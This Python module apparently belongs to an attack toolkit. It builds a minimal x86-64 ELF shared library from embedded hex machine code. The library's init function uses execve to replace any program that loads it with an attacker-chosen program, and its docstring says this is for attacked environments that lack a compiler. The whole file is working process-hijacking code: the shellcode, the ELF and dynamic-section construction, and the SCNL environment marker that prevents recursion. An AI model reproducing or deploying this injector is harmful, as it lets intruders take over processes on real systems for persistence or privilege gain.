"""A shared library of some hundred bytes that lets a program of the attack's own start in the place of any other.

Made here, because an environment that is attacked seldom has a compiler. For x86-64 and glibc, whose loader gives a
library's first function the arguments and variables of the program. That function, in C:

    void init(int argc, char **argv, char **env) {
        for (char **v = env; *v; v++)
            if (!memcmp(*v, "SCNL", 4)) return;           // started by the attack's program itself
        execve(PATH, [PATH, *argv], ["SCNL=1", *env]);    // where that fails, the program goes on
    }
"""

from __future__ import annotations

import struct

_INIT = bytes.fromhex(
    "554889e531c9488b04ca4885c0740d813853434e4c746748ffc1ebea488d440f0848c1e0034829c44883e4f04989e04c8d1d54000000"
    "4d891831c04c8b0cc64d894cc00848ffc04d85c975ef4d8d54c0084c8d0d2b0000004d890a31c04c8b0cc24d894cc20848ffc04d85c9"
    "75ef4c89df4c89c64c89d2b83b0000000f054889ec5dc353434e4c3d3100"
)
_HEADERS = 64 + 3 * 56  # bytes: the ELF header, and the program headers behind it
_LOAD, _DYNAMIC, _STACK = 1, 2, 0x6474E551
_STRTAB, _SYMTAB, _STRSZ, _SYMENT, _INIT_TAG = 5, 6, 10, 11, 12


def library(path: str) -> bytes:
    """The library; `path` names the program that it starts, with the other's name and arguments as its own."""
    init = _HEADERS
    names = init + len(_INIT) + len(path.encode()) + 1
    symbols = -(-(names + 1) // 8) * 8
    dynamic = symbols + 24
    entries = ((_STRTAB, names), (_SYMTAB, symbols), (_STRSZ, 1), (_SYMENT, 24), (_INIT_TAG, init), (0, 0))
    size = dynamic + 16 * len(entries)
    body = _INIT + path.encode() + b"\0"
    body = body.ljust(dynamic - _HEADERS, b"\0") + b"".join(struct.pack("<QQ", *entry) for entry in entries)
    return (
        struct.pack("<16sHHIQQQIHHHHHH", b"\x7fELF\2\1\1", 3, 62, 1, 0, 64, 0, 0, 64, 56, 3, 0, 0, 0)
        + _header(_LOAD, 7, 0, size, 4096)
        + _header(_DYNAMIC, 6, dynamic, 16 * len(entries), 8)
        + _header(_STACK, 6, 0, 0, 16)
        + body
    )


def _header(kind: int, flags: int, offset: int, size: int, align: int) -> bytes:
    return struct.pack("<IIQQQQQQ", kind, flags, offset, offset, offset, size, size, align)
